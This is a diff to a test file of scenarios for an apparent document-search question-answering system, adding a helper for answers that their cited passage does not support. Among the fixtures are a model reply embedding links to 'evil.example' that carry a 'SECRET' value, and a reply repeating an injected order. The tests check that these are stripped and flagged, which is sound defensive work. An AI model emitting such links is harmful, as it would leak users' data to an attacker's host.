@@ -93,6 +93,11 @@ def answers(
     return Scenario(name, script, "answered", words, strict=0, stream_type=stream_type)
 
 
+def claims(name: str, script: Sequence[Turn | Fault], words: str = "not supported") -> Scenario:
+    """A scenario that ends with an answer that the cited passage does not support."""
+    return Scenario(name, script, "answered", words, strict=6)
+
+
 def fails(name: str, script: Sequence[Turn | Fault], words: str) -> Scenario:
     """A scenario that ends with an error."""
     return Scenario(name, script, words=words, strict=1, code=1)
@@ -108,7 +113,7 @@ SCENARIOS = (
     # tools
     Scenario("no tool call", (GOOD,), "not_searched", "the model did not search the documents"),
     answers("an unknown tool", (Turn(calls=(ToolCallTurn("shell", {"cmd": "ls"}),)), SEARCH, GOOD)),
-    answers(
+    claims(
         "arguments that are no JSON",
         (Turn(calls=(ToolCallTurn("search_knowledge_base", {}),), arguments='{"query": "hed'), SEARCH, GOOD),
     ),
@@ -148,12 +153,12 @@ SCENARIOS = (
     Scenario("a known and an unknown one", (SEARCH, say("In August [1, 9].")), "answered", "In August [1]."),
     answers("citations in 【1】", (SEARCH, say("It is cut in August【1】.")), "August[1]"),
     Scenario("no citation", (SEARCH, say("It is cut in August.")), "uncited", "the answer cites no passage"),
-    answers(
+    claims(
         "links to an evil host",
         (SEARCH, say("Look ![x](http://evil.example/?q=SECRET) [1] [y](//evil.example/SECRET)")),
         "[link removed: evil.example]",
     ),
-    answers("an injected order repeated", (SEARCH, say(f"{INJECTION} [1].")), "[link removed:"),
+    claims("an injected order repeated", (SEARCH, say(f"{INJECTION} [1].")), "[link removed:"),
     # abstentions
     Scenario(
         "an abstention", (SEARCH, say("[not in documents] Nothing about cups.")), "not_in_documents", "Nothing about"
@@ -236,8 +241,8 @@ SCENARIOS = (
     ),
     fails("a connection that is reset", (Fault(turn=GOOD, cut_after=0),), "connection"),
     # statements that no passage supports
-    answers("an invented quotation", (SEARCH, say('The manual says "cut it on the moon" [1].'))),
-    answers("a wrong number", (SEARCH, say("The hedge is cut 99 times a year [1]."))),
+    claims("an invented quotation", (SEARCH, say('The manual says "cut it on the moon" [1].'))),
+    claims("a wrong number", (SEARCH, say("The hedge is cut 99 times a year [1]."))),
 )
 
 PAGE = Path(__file__).parents[2] / "docs" / "explanation" / "outcomes.md"
